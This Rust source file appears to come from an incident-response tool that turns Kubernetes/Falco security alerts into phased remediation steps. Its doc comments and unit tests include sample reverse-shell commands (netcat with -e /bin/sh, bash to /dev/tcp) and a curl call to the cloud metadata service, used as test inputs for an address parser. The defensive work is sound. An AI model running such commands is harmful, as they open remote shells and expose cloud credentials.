//! `suggest_remediation`: next steps for the incident in scope, in phases (contain, eradicate,
//! recover, harden), taken from the reviewed table in `remediation_table` and filled in with
//! the pods, images, files, processes and addresses the alerts name.

use std::collections::{BTreeMap, BTreeSet};

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use super::common::{dimension_scope, timestamp};
use super::remediation_table::{Phase, REMEDIES, Remedy, Target};
use super::{Evidence, Tool, ToolContext, ToolError, Window};
use crate::alert::Alert;
use crate::scope::{Dimension, Scope, ScopeExpr};
use crate::store::{AlertFilter, GroupKey, SearchOrder};

/// The tool.
pub struct SuggestRemediation;

/// Arguments of `suggest_remediation`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[schemars(extend("additionalProperties" = false))]
pub struct SuggestRemediationArgs {
    /// The incident's alerts: a cluster, namespace or workload scope and a time range.
    #[serde(flatten)]
    pub window: Window,
}

/// Output of `suggest_remediation`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct SuggestRemediationOutput {
    /// The incident's alerts.
    pub evidence: Evidence,
    /// First alert.
    pub first_seen: Option<String>,
    /// Last alert.
    pub last_seen: Option<String>,
    /// Steps to stop the damage spreading.
    pub contain: Vec<Step>,
    /// Steps to remove what the intruder left.
    pub eradicate: Vec<Step>,
    /// Steps to return to a known-good state.
    pub recover: Vec<Step>,
    /// Steps to prevent a repeat (Falco rules, NetworkPolicy, metadata service, images, pod specs).
    pub harden: Vec<Step>,
    /// Why there are no steps, when there are none.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
}

/// One step, filled in for this incident.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Step {
    /// The knowledge entry (`isolate-pods`).
    pub id: String,
    /// What to do, naming the objects.
    pub action: String,
    /// Why it applies: the rules, tags and techniques of the incident it is keyed on.
    pub because: Vec<String>,
    /// Alerts behind the step: the incident's alerts of the rules, tags and techniques in
    /// `because`.
    pub alerts: u64,
}

const SHOWN: usize = 3;
const SCANNED: usize = 2_000;
/// Executables here belong to the image, not to an intruder.
const SYSTEM_DIRECTORIES: [&str; 5] = ["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/lib/"];

impl Tool for SuggestRemediation {
    const NAME: &'static str = "suggest_remediation";
    type Args = SuggestRemediationArgs;
    type Output = SuggestRemediationOutput;

    fn description() -> &'static str {
        "Suggests concrete next steps for the incident in a scope and time range, in phases: contain \
         (which pods, processes and remote addresses to isolate, stop or block), eradicate (dropped \
         files and executables, launcher scripts, images to rebuild), recover (clean redeploys, \
         credential review, logs) and harden (Falco rule changes, NetworkPolicy, metadata-service \
         limits, image admission policy, readOnlyRootFilesystem). Steps come from Saker's reviewed \
         remediation table keyed by the rules, tags and MITRE techniques that fired, with the \
         affected objects filled in from the alerts. Use it for 'what should we do about this'."
    }

    fn call(context: &ToolContext<'_>, args: SuggestRemediationArgs) -> Result<SuggestRemediationOutput, ToolError> {
        let filter = args.window.filter(context)?;
        let evidence = Evidence::of(context.store, &filter)?;
        let present = |dimension| -> Result<BTreeMap<String, u64>, ToolError> {
            let counts = context.store.group_counts(&filter, GroupKey::Dimension(dimension), usize::MAX)?;
            Ok(counts.groups.into_iter().collect())
        };
        let rule_counts = present(Dimension::Rule)?;
        let tags = present(Dimension::Tag)?;
        let techniques = present(Dimension::MitreTechnique)?;
        let bounds = context.store.time_bounds(&filter)?;

        let mut phases: BTreeMap<Phase, Vec<Step>> = BTreeMap::new();
        for remedy in REMEDIES {
            let keys = Keys {
                rules: matching(remedy.rules, &rule_counts),
                tags: matching(remedy.tags, &tags),
                techniques: matching(remedy.techniques, &techniques),
            };
            if keys.is_empty() {
                continue;
            }
            if let Some(step) = fill(context, &filter, remedy, &keys)? {
                phases.entry(remedy.phase).or_default().push(step);
            }
        }
        let note = if evidence.count == 0 {
            Some("No alerts in this scope and time range, so there is nothing to remediate.".to_string())
        } else if phases.is_empty() {
            Some(
                "None of the rules, tags or techniques of these alerts has an entry in Saker's remediation table; \
                 use explain_event on the rules for their meaning."
                    .to_string(),
            )
        } else {
            None
        };
        let mut take = |phase| phases.remove(&phase).unwrap_or_default();
        Ok(SuggestRemediationOutput {
            evidence,
            first_seen: bounds.map(|(first, _)| timestamp(first)),
            last_seen: bounds.map(|(_, last)| timestamp(last)),
            contain: take(Phase::Contain),
            eradicate: take(Phase::Eradicate),
            recover: take(Phase::Recover),
            harden: take(Phase::Harden),
            note,
        })
    }
}

/// The keys of an entry that occur in the incident.
struct Keys {
    rules: Vec<String>,
    tags: Vec<String>,
    techniques: Vec<String>,
}

impl Keys {
    fn is_empty(&self) -> bool {
        self.rules.is_empty() && self.tags.is_empty() && self.techniques.is_empty()
    }

    fn scope(&self) -> Scope {
        let parts = [
            (Dimension::Rule, &self.rules),
            (Dimension::Tag, &self.tags),
            (Dimension::MitreTechnique, &self.techniques),
        ];
        let expr = parts
            .into_iter()
            .filter(|(_, values)| !values.is_empty())
            .filter_map(|(dimension, values)| dimension_scope(dimension, values.clone()).expr().cloned())
            .reduce(ScopeExpr::or);
        expr.map_or_else(Scope::all, Scope::from_expr)
    }

    fn because(&self) -> Vec<String> {
        let rules = self.rules.iter().map(|rule| format!("rule {rule}"));
        let tags = self.tags.iter().map(|tag| format!("tag {tag}"));
        let techniques = self.techniques.iter().map(|technique| format!("technique {technique}"));
        rules.chain(tags).chain(techniques).collect()
    }
}

fn matching(keys: &[&str], present: &BTreeMap<String, u64>) -> Vec<String> {
    keys.iter().filter(|key| present.contains_key(**key)).map(|key| key.to_string()).collect()
}

/// The step with its objects filled in; `None` when the alerts name none of its objects.
fn fill(
    context: &ToolContext<'_>,
    filter: &AlertFilter,
    remedy: &Remedy,
    keys: &Keys,
) -> Result<Option<Step>, ToolError> {
    let step_filter = AlertFilter { scope: filter.scope.and(&keys.scope()), time: filter.time };
    let page = context.store.search(&step_filter, None, SearchOrder::NewestFirst, 0, SCANNED)?;
    let mut found: BTreeMap<Target, BTreeMap<String, u64>> = BTreeMap::new();
    for alert in &page.alerts {
        for target in remedy.targets {
            for value in target_values(alert, *target) {
                *found.entry(*target).or_default().entry(value).or_insert(0) += 1;
            }
        }
    }
    if !remedy.targets.is_empty() && found.is_empty() {
        return Ok(None);
    }
    let mut action = remedy.action.to_string();
    for target in remedy.targets {
        let values = most_frequent(found.remove(target).unwrap_or_default());
        action = action.replace(target.placeholder(), &phrase(&values));
    }
    Ok(Some(Step {
        id: remedy.id.to_string(),
        action: action.split_whitespace().collect::<Vec<_>>().join(" "),
        because: keys.because(),
        alerts: page.total,
    }))
}

/// Values, most alerts first (ties by value).
fn most_frequent(counts: BTreeMap<String, u64>) -> Vec<String> {
    let mut values: Vec<(String, u64)> = counts.into_iter().collect();
    values.sort_by(|left, right| right.1.cmp(&left.1).then(left.0.cmp(&right.0)));
    values.into_iter().map(|(value, _)| value).collect()
}

/// `a, b and c`, `a, b, c, d, e and 3 more`, or a stand-in when nothing was recorded.
fn phrase(values: &[String]) -> String {
    match values {
        [] => "(none recorded in the alerts)".to_string(),
        [only] => only.clone(),
        _ if values.len() <= SHOWN => {
            let (last, rest) =
                values.split_last().map_or((String::new(), &[][..]), |(last, rest)| (last.clone(), rest));
            format!("{} and {last}", rest.join(", "))
        }
        _ => format!("{} and {} more", values[..SHOWN].join(", "), values.len() - SHOWN),
    }
}

/// The values of a target kind in one alert.
fn target_values(alert: &Alert, target: Target) -> Vec<String> {
    let dimensions = &alert.dimensions;
    let single = |value: Option<&String>| value.cloned().into_iter().collect::<Vec<_>>();
    match target {
        Target::Pods => single(dimensions.pod.as_ref()),
        Target::Namespaces => single(dimensions.namespace.as_ref()),
        Target::Workloads => dimensions
            .workload
            .as_ref()
            .map(|workload| format!("{}/{}", dimensions.namespace.as_deref().unwrap_or("-"), workload.name))
            .into_iter()
            .collect(),
        Target::Images => dimensions
            .image
            .as_ref()
            .map(|image| match &dimensions.image_tag {
                Some(tag) => format!("{image}:{tag}"),
                None => image.clone(),
            })
            .into_iter()
            .collect(),
        Target::Processes => single(dimensions.process.name.as_ref()),
        Target::Executables => dimensions
            .process
            .exepath
            .iter()
            .filter(|path| !SYSTEM_DIRECTORIES.iter().any(|directory| path.starts_with(directory)))
            .cloned()
            .collect(),
        Target::ParentCommands => single(dimensions.process.pcmdline.as_ref()),
        Target::Users => single(dimensions.user.as_ref()),
        Target::Files => {
            let mut files = BTreeSet::new();
            for key in ["fd.name", "evt.arg.filename", "evt.arg.name", "evt.arg.pathname", "evt.arg.path"] {
                if let Some(path) = alert.field_text(key).filter(|path| path.starts_with('/')) {
                    files.insert(path);
                }
            }
            files.into_iter().collect()
        }
        Target::RemoteEndpoints => {
            let connected =
                dimensions.file.as_deref().and_then(|connection| connection.split_once("->")).map(|(_, remote)| remote);
            match connected {
                Some(remote) => vec![remote.to_string()],
                None => dimensions.process.cmdline.as_deref().map(remote_ends_in_command).unwrap_or_default(),
            }
        }
    }
}

/// The public addresses a command line connects to, with their ports where it gives them:
/// `nc -e /bin/sh 203.0.113.9 9001` → `203.0.113.9:9001`, `bash -i >& /dev/tcp/203.0.113.7/4444`
/// → `203.0.113.7:4444`. Private, loopback and link-local addresses (scan targets, the metadata
/// service) are not remote ends to block.
fn remote_ends_in_command(command: &str) -> Vec<String> {
    let words: Vec<&str> = command.split(|c: char| c.is_whitespace() || c == '/' || c == '>' || c == '&').collect();
    let mut ends = Vec::new();
    for (index, word) in words.iter().enumerate() {
        let (host, inline_port) = match word.split_once(':') {
            Some((host, port)) => (host, Some(port)),
            None => (*word, None),
        };
        let Ok(address) = host.parse::<std::net::Ipv4Addr>() else { continue };
        if address.is_private() || address.is_loopback() || address.is_link_local() || address.is_unspecified() {
            continue;
        }
        let is_port =
            |text: &str| !text.is_empty() && text.len() <= 5 && text.bytes().all(|byte| byte.is_ascii_digit());
        let port = inline_port
            .filter(|port| is_port(port))
            .or_else(|| words.get(index + 1).copied().filter(|next| is_port(next)));
        let end = match port {
            Some(port) => format!("{address}:{port}"),
            None => address.to_string(),
        };
        if !ends.contains(&end) {
            ends.push(end);
        }
    }
    ends
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remote_ends_are_read_from_command_lines() {
        assert_eq!(remote_ends_in_command("nc -e /bin/sh 203.0.113.9 9001"), ["203.0.113.9:9001"]);
        assert_eq!(
            remote_ends_in_command("sh -c bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"),
            ["203.0.113.7:4444"]
        );
        assert!(remote_ends_in_command("nc -zv 10.20.3.15 5432").is_empty(), "an internal scan target");
        assert!(remote_ends_in_command("curl -s http://169.254.169.254/latest/meta-data/").is_empty());
        assert_eq!(remote_ends_in_command("curl 198.51.100.77:8080"), ["198.51.100.77:8080"]);
    }
}
